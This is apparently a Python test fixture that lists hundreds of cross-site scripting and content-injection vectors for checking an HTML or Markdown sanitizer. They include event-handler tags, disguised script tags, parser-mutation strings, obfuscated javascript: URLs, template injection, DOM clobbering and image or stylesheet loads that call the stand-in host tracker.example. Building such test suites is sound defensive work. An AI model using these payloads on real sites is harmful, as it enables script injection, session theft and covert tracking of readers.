"""Texts that try to run, to load, or to send: each known way, in its known disguises. Knows no browser.

Whatever runs sets `window.stolen`; whatever loads or sends asks a host under `.example`.
"""

from __future__ import annotations

import html
import itertools
from collections.abc import Iterator

RUNS = "window.stolen=1"
AWAY = "https://tracker.example/x"

# Elements that run something by themselves, and the attribute that does it.
BY_THEMSELVES = (
    "<img src=x onerror={run}>",
    "<img src=x:x onerror={run}>",
    "<img src=https://tracker.example/x.png onerror={run} onload={run}>",
    "<img src='https://tracker.example/x.png\" onerror={run} x=\"'>",
    "<img src=https://tracker.example/x.png alt='\" onerror={run} x=\"'>",
    "<img src=https://tracker.example/x.png title='&quot; onmouseover={run} x=&quot;'>",
    "<img src=https://tracker.example/x.png alt='</a><script>{run}</script>'>",
    "<img src='/api/fabula/v1/health' onerror={run} style='background:url(javascript:{run})'>",
    "<img src='data:image/svg+xml,&lt;svg onload={run}&gt;'>",
    "<img src=javascript:{run}>",
    "<img src='data:text/html,&lt;script&gt;{run}&lt;/script&gt;'>",
    "<img class=outside-picture src=https://tracker.example/x.png id=app name=fetch>",
    "<image src=x onerror={run}>",
    "<svg onload={run}>",
    "<svg><animate onbegin={run} attributeName=x dur=1s>",
    "<svg><set onbegin={run} attributeName=x>",
    "<svg><a><animate attributeName=href values=javascript:{run} /><text x=20 y=20>x</text></a></svg>",
    "<body onload={run}>",
    "<body onpageshow={run}>",
    "<input autofocus onfocus={run}>",
    "<select autofocus onfocus={run}></select>",
    "<textarea autofocus onfocus={run}></textarea>",
    "<details open ontoggle={run}>x</details>",
    "<div popover id=p onbeforetoggle={run}>x</div><button popovertarget=p autofocus>x</button>",
    "<dialog open onclose={run}>x</dialog>",
    "<video><source onerror={run}></video>",
    "<video src=x onerror={run}></video>",
    "<audio src=x onerror={run}></audio>",
    "<marquee onstart={run}>x</marquee>",
    "<object data=x onerror={run}></object>",
    "<embed src=javascript:{run}>",
    "<link rel=stylesheet href=x onerror={run}>",
    "<style onload={run}></style>",
    "<style>@keyframes x{{}}</style><b style='animation-name:x' onanimationstart={run}>x</b>",
    "<b style='transition:1s' ontransitionend={run}>x</b>",
    "<iframe srcdoc='<script>parent.stolen=1</script>'></iframe>",
    "<iframe onload={run}></iframe>",
    "<iframe src=javascript:parent.stolen=1></iframe>",
    "<frameset onload={run}>",
    "<form><button formaction=javascript:{run} autofocus onfocus={run}>x</button></form>",
    "<math><maction actiontype=statusline xlink:href=javascript:{run}>x</maction></math>",
    "<custom-element tabindex=0 autofocus onfocus={run}>x</custom-element>",
    "<a href=x onfocus={run} autofocus>x</a>",
    "<p oncontentvisibilityautostatechange={run} style='content-visibility:auto'>x</p>",
)
QUOTES = ("{}", '"{}"', "'{}'", "`{}`")

SCRIPTS = (
    "<script>{run}</script>",
    "<ScRiPt>{run}</sCrIpT>",
    "<script >{run}</script >",
    "<script\n>{run}</script\n>",
    "<script/x>{run}</script>",
    "<scr<script>ipt>{run}</scr</script>ipt>",
    "<script src=data:text/javascript,{run}></script>",
    "<script type=module>{run}</script>",
    "<svg><script>{run}</script></svg>",
    "<svg><script href=data:text/javascript,{run} /></svg>",
    "<math><script>{run}</script></math>",
    "<script>{run}",
    "<<script>{run}//<</script>",
    "</p></div></article><script>{run}</script>",
    "<noscript><p title='</noscript><script>{run}</script>'>",
    "<template><script>{run}</script></template>",
    "<plaintext><script>{run}</script>",
    "<xmp><script>{run}</script></xmp>",
    "<!--><script>{run}</script>-->",
    "<![CDATA[<script>{run}</script>]]>",
    "<?xml version='1.0'?><script>{run}</script>",
)

# Text that a parser puts together anew when it is read a second time (mXSS).
MUTATIONS = (
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={run}&gt;'>",
    "<svg></p><style><a id='</style><img src=x onerror={run}>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={run}>",
    "<noscript><style></noscript><img src=x onerror={run}>",
    "<svg><title><style><img title='</style></title><img src=x onerror={run}>'>",
    "<textarea><p title='</textarea><img src=x onerror={run}>'></textarea>",
    "<title><p title='</title><img src=x onerror={run}>'></title>",
    "<table><td><svg><desc><td><img src=x onerror={run}></td></desc></svg></td></table>",
    "<select><option><style></option></select><img src=x onerror={run}></style>",
    "<a name='x' title='&quot;&gt;&lt;img src=x onerror={run}&gt;'>x</a>",
    "<p id='&#60;img src=x onerror={run}&#62;'>x</p>",
    "<svg><foreignObject><iframe srcdoc='&lt;script&gt;parent.stolen=1&lt;/script&gt;'></svg>",
)

SCHEMES = (
    "javascript:{run}",
    "JaVaScRiPt:{run}",
    " javascript:{run}",
    "java\tscript:{run}",
    "java\nscript:{run}",
    "\x01javascript:{run}",
    "javascript&colon;{run}",
    "&#106;avascript:{run}",
    "&#x6A&#x61vascript:{run}",
    "javascript://%0a{run}",
    "data:text/html,<script>{run}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:{run}",
    "blob:{run}",
    "view-source:javascript:{run}",
)
CARRIERS = (
    "[click me]({address})",
    "[click me](<{address}>)",
    '[click me][1]\n\n[1]: {address} "title"',
    "![picture]({address})",
    "<{address}>",
    "<a href='{address}'>click me</a>",
)

# What only asks a foreign host has told it that the text was read.
LOADS = (
    "![picture]({away}.png)",
    '![picture][1]\n\n[1]: {away}.png "title"',
    "[![picture]({away}.png)]({away})",
    "<img src={away}.png>",
    "<img srcset='{away}.png 1x, {away}2.png 2x'>",
    "<picture><source srcset={away}.png><img></picture>",
    "<img src=//tracker.example/x.png>",
    "<img src='\\\\tracker.example\\x.png'>",
    "<IMG SRC={away}.png ALT=x LOADING=eager>",
    "<img/src={away}.png/>",
    "<img\nsrc\n=\n'{away}.png'>",
    "<img src={away}.png srcset={away}2.png sizes=1px>",
    "<img lowsrc={away}.png dynsrc={away}2.png>",
    "<img src='/x.png' src={away}.png>",
    "<img alt='>' src={away}.png>",
    "<img src='&#104;ttps&colon;//tracker.example/x.png'>",
    "<img src='https:tracker.example/x.png'>",
    "<img src='/&#9;/tracker.example/x.png'>",
    "<img src='/\t/tracker.example/x.png'>",
    "<img src='attachment:{away}.png'>",
    "<image src={away}.png>",
    "<input type=image src={away}.png>",
    "![picture](//tracker.example/x.png)",
    "![picture](/\\tracker.example/x.png)",
    "![picture](</\t/tracker.example/x.png>)",
    "<video poster={away}.png src={away}.mp4 autoplay></video>",
    "<audio src={away}.mp3 autoplay></audio>",
    "<iframe src={away}></iframe>",
    "<object data={away}></object>",
    "<embed src={away}>",
    "<link rel=stylesheet href={away}.css>",
    "<link rel=preload as=image href={away}.png>",
    "<link rel=dns-prefetch href=//tracker.example>",
    "<style>@import url({away}.css);</style>",
    "<style>body{{background:url({away}.png)}}</style>",
    "<p style='background:url({away}.png)'>x</p>",
    "<p style=\"background:\\75rl('{away}.png')\">x</p>",
    "<table background={away}.png><tr><td>x</td></tr></table>",
    "<svg><image href={away}.png /></svg>",
    "<svg><use href='{away}.svg#x' /></svg>",
    "<svg><filter><feImage href={away}.png /></filter></svg>",
    "<base href=https://tracker.example/><img src=x.png>",
    "<meta http-equiv=refresh content='0;url={away}'>",
    "<form action={away}><input autofocus></form>",
    "<script src={away}.js></script>",
)

# Text that gets out of where it was put: code, attributes, templates, names that scripts look up.
ESCAPES = (
    "```html\n</code></pre><img src=x onerror={run}>\n```",
    '```" onmouseover={run} x="\ncode\n```',
    "```js'><img/src/onerror={run}>\ncode\n```",
    "`</code><img src=x onerror={run}>`",
    '![" onerror="{run}](x)',
    "![x](x \"' onerror='{run}\")",
    '["><img src=x onerror={run}>](https://e.example)',
    "| <img src=x onerror={run}> |\n|---|\n| </td><script>{run}</script> |",
    "$<img src=x onerror={run}>$ $$\\href{{javascript:{run}}}{{x}}$$",
    "$$\\htmlData{{x=1}}{{\\url{{javascript:{run}}}}}$$",
    "${{{run}}} {{{{constructor.constructor('{run}')()}}}} <%= {run} %>",
    "<img name=body><img name=getElementById><form id=head><input name=attributes>",
    "<a id=fabula><a id=fabula name=url href=javascript:{run}>",
    "<p class='dialog sheet banner' style='position:fixed;inset:0'>covers all</p>",
    '"><svg/onload={run}>',
    "'-({run})-'",
    "</textarea></title></style></script><svg/onload={run}>",
    "\u202e<img src=x onerror={run}>\u202c",
    "\ufeff<scr\u0000ipt>{run}</script>",
    "＜script＞{run}＜/script＞",
    html.escape("<img src=x onerror={run}>"),
    html.escape(html.escape("<script>{run}</script>")),
    "- [ ] <input type=checkbox onclick={run} autofocus onfocus={run}>",
    "> <blockquote cite=javascript:{run}>x</blockquote>",
)


def _all() -> Iterator[str]:
    for vector, quote in itertools.product(BY_THEMSELVES, QUOTES[:2]):
        yield vector.format(run=quote.format(RUNS))
    for vector in (*SCRIPTS, *MUTATIONS, *ESCAPES):
        yield vector.format(run=RUNS)
    for scheme, carrier in itertools.product(SCHEMES, CARRIERS[:3]):
        yield carrier.format(address=scheme.format(run=RUNS))
    for carrier in CARRIERS[3:]:
        yield carrier.format(address=SCHEMES[0].format(run=RUNS))
    yield from (vector.format(away=AWAY) for vector in LOADS)


ATTACKS = tuple(dict.fromkeys(_all()))
SHORT = (
    f"<script>{RUNS}</script>",
    f"<img src=x onerror={RUNS}>",
    f'"><svg/onload={RUNS}>',
    f"'-({RUNS})-'",
    f"</textarea></title><svg/onload={RUNS}>",
    "<iframe srcdoc='<script>parent.stolen=1</script>'>",
    f"javascript:{RUNS}",
    f"${{{RUNS}}}",
    f"<img src={AWAY}>",
    f"![x]({AWAY})",
    f"<style>@import '{AWAY}'</style>",
)
"""What stands where only a name is: one of each kind."""
